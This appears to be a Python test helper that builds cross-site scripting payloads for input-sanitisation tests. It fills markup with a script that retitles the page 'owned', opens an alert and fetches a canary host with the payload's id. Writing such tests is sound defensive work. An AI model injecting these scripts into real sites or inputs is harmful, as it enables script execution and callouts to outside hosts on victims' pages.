"""Markup that runs scripts, and markup that loads something from elsewhere: each tells its id where it succeeds."""

from __future__ import annotations

from dataclasses import dataclass

from tests.bad_input.rows import read_rows

HOST = "canary.example.net"
LOUD = "document.title=`owned`;window.canary=`{id}`;alert(`{id}`);fetch(`//{host}/{id}`)"
SHORT = "alert(`{id}`)"


@dataclass(frozen=True)
class Payload:
    """One payload; `press` where somebody has to press something before it could do anything."""

    id: str
    source: str
    press: bool = False

    @property
    def html(self) -> str:
        """Return it as loud as it can be: a new title, a mark left on the window, a dialog, a request."""
        return self._with(LOUD)

    @property
    def words(self) -> str:
        """Return it as short as it can be, for fields of one line."""
        return self._with(SHORT)

    def _with(self, script: str) -> str:
        words = {"{js}": script, "{out}": f"https://{HOST}/{self.id}", "{host}": HOST, "{id}": self.id}
        text = self.source
        for word, value in words.items():
            text = text.replace(word, value)
        return text


def _read(name: str) -> tuple[Payload, ...]:
    return tuple(Payload(row["id"], row["html"], row.get("press", False)) for row in read_rows(name))


SCRIPTS, REMOTE = _read("scripts"), _read("remote")
